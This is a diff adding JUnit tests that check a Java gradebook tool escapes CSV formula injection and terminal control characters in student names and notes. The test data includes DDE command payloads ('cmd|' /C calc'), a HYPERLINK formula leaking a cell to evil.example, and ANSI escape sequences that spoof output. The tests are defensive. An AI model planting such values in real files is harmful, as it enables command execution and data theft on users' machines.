@@ -34,4 +34,79 @@ class GradebookTest {
     assertThat(lines.get(1)).endsWith(",1.5,");
     assertThat(lines.get(2)).endsWith(",\"not graded: exit code 3, see run.log\"");
   }
+
+  @Test
+  void aFolderNameOrNoteThatLooksLikeAFormulaStaysText() throws Exception {
+    var manifest = new LabCatalog(KitRoot.locate()).load("presigned-url");
+    var file = folder.resolve("gradebook.csv");
+    var names =
+        List.of(
+            "=1+2",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+2",
+            "\r=1+2",
+            "\uFF1D1+2",
+            "bob\r\n=1+2,\"x\"\u001b[31m");
+
+    Gradebook.write(
+        file,
+        manifest,
+        names.stream()
+            .map(
+                name ->
+                    new GradedSubmission(
+                        name, Optional.empty(), 0, "not graded: last line =cmd|' /C calc'!A0"))
+            .toList());
+
+    var rows =
+        new com.fasterxml.jackson.dataformat.csv.CsvMapper()
+            .readerFor(java.util.Map.class)
+            .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader())
+            .<java.util.Map<String, String>>readValues(file.toFile())
+            .readAll();
+    assertThat(rows).hasSize(names.size());
+    assertThat(rows)
+        .extracting(row -> row.get("submission"))
+        .containsExactly(
+            "'=1+2",
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "'+cmd|' /C calc'!A0",
+            "'-2+3",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'\t=1+2",
+            "\\r=1+2",
+            "'\uFF1D1+2",
+            "bob\\r\\n=1+2,\"x\"\\u001b[31m");
+    assertThat(rows)
+        .extracting(row -> row.get("note"))
+        .containsOnly("not graded: last line =cmd|' /C calc'!A0");
+    assertThat(Files.readString(file)).doesNotContain("\r", "\u001b");
+  }
+
+  @Test
+  void anHonestNameIsItsOwnCell() {
+    assertThat(Gradebook.cell("03-ana_lopez")).isEqualTo("03-ana_lopez");
+    assertThat(Gradebook.cell("not run")).isEqualTo("not run");
+    assertThat(Gradebook.cell(null)).isEmpty();
+  }
+
+  @Test
+  void theProgressLineKeepsItsShapeAndShowsControlCharacters() {
+    assertThat(
+            Gradebook.progressLine("[3/20]", "alice", "85/100", "elapsed 1.0 s, about 2.0 s to go"))
+        .isEqualTo(
+            "[3/20] alice                          85/100   elapsed 1.0 s, about 2.0 s to go");
+    assertThat(
+            Gradebook.progressLine(
+                "[again]",
+                "eve\r\u001b[2K[20/20] eve 100/100",
+                "not graded: it printed \u001b[31mPASS\n",
+                "graded alone"))
+        .isEqualTo(
+            "[again] eve\\r\\u001b[2K[20/20] eve 100/100 "
+                + "not graded: it printed \\u001b[31mPASS\\n   graded alone");
+  }
 }
